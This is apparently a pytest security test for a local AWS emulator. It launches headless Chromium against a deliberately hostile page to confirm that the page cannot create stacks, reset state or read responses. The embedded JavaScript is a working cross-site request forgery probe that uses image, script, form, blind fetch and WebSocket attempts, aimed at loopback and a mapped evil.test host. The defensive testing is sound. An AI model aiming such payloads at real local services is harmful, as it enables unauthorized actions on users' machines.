"""A hostile page in a real browser gets nothing, whatever it knows of the emulator."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from understudy_support.running import RunningEmulator

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "chrome")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--host-resolver-rules=MAP evil.test 127.0.0.1",
)  # fmt: skip
TEMPLATE = json.dumps({"Resources": {"Q": {"Type": "AWS::SQS::Queue"}}})
# The page tries each way in, notes what it could read, and reports to its own server.
PAGE = """<!doctype html><img id="img"><form id="form" target="frame" method="post"></form>
<iframe name="frame"></iframe><script>
const emulator = "%(emulator)s", read = [];
const link = (name) => emulator + "/?Action=CreateStack&Version=2010-05-15&StackName=" + name +
  "&TemplateBody=%(template)s&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z" +
  "&X-Amz-Credential=test%%2F20260101%%2Fus-east-1%%2Fcloudformation%%2Faws4_request" +
  "&X-Amz-SignedHeaders=host&X-Amz-Signature=00";
const tries = [
  () => new Promise((done) => { const i = document.getElementById("img");
    i.onload = i.onerror = done; i.src = link("by-image"); }),
  () => new Promise((done) => { const s = document.createElement("script");
    s.onload = s.onerror = done; s.src = link("by-script"); document.head.append(s); }),
  () => fetch(link("by-blind-fetch"), {mode: "no-cors"}),
  () => fetch(link("by-blind-post"), {mode: "no-cors", method: "POST"}),
  () => { const f = document.getElementById("form"); f.action = link("by-form"); f.submit();
    return new Promise((done) => setTimeout(done, 500)); },
  () => fetch(emulator + "/_understudy/health").then((a) => a.text()).then((t) => read.push(t)),
  () => fetch(emulator + "/", {headers: {"x-amz-target": "AWSGlue.GetDatabases"},
    method: "POST", body: "{}"}).then((a) => a.text()).then((t) => read.push(t)),
  () => fetch(emulator + "/_ministack/reset", {mode: "no-cors", method: "POST"}),
  () => new Promise((done) => { const w = new WebSocket(emulator.replace("http", "ws"));
    w.onopen = () => { read.push("socket"); done(); }; w.onerror = w.onclose = done; }),
];
(async () => {
  for (const attempt of tries) { try { await attempt(); } catch (fault) {} }
  await fetch("/report", {method: "POST", body: JSON.stringify({tried: tries.length, read})});
})();
</script>"""

pytestmark = pytest.mark.slow


class Site:
    """The attacker's own server: serves the page, keeps what it reports."""

    def __init__(self) -> None:
        self.page = ""
        self.report: dict[str, Any] = {}
        self.reported = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(site.page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                site.report = json.loads(body)
                self._answer(b"")
                site.reported.set()

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Stay silent."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    thread = threading.Thread(target=made.server.serve_forever)
    thread.start()
    yield made
    made.server.shutdown()
    thread.join()
    made.server.server_close()


def visit(site: Site, *, host: str, emulator: RunningEmulator, profile: Path) -> dict[str, Any]:
    """Open the page in a browser; the answer is what it reports."""
    browser = next((path for name in BROWSERS if (path := shutil.which(name))), None)
    if browser is None:
        pytest.skip(f"no browser is installed; tried {', '.join(BROWSERS)}")
    site.page = PAGE % {"emulator": emulator.endpoint_url, "template": quote(TEMPLATE)}
    running = subprocess.Popen(
        [browser, *FLAGS, f"--user-data-dir={profile}", f"http://{host}:{site.port}/"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert site.reported.wait(120), "the page did not report, so the test would prove nothing"
    finally:
        running.kill()
        running.wait()
    return site.report


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.test"])
def test_a_hostile_page_gets_nothing(
    emulator: RunningEmulator,
    client: Callable[[str], Any],
    site: Site,
    tmp_path: Path,
    host: str,
) -> None:
    before = client("cloudformation").describe_stacks()["Stacks"]
    report = visit(site, host=host, emulator=emulator, profile=tmp_path)
    assert report == {"tried": 9, "read": []}
    assert client("cloudformation").describe_stacks()["Stacks"] == before


def test_the_same_page_reads_what_its_named_origin_may_read(site: Site, tmp_path: Path) -> None:
    running = RunningEmulator(tmp_path / "run", "--allow-origin", f"http://127.0.0.1:{site.port}")
    try:
        report = visit(site, host="127.0.0.1", emulator=running, profile=tmp_path / "profile")
        stacks = running.client("cloudformation").describe_stacks()["Stacks"]
    finally:
        running.stop()
    health, refused = report["read"]
    assert json.loads(health)["status"] == "ok"
    assert "not signed" in refused
    assert stacks == []
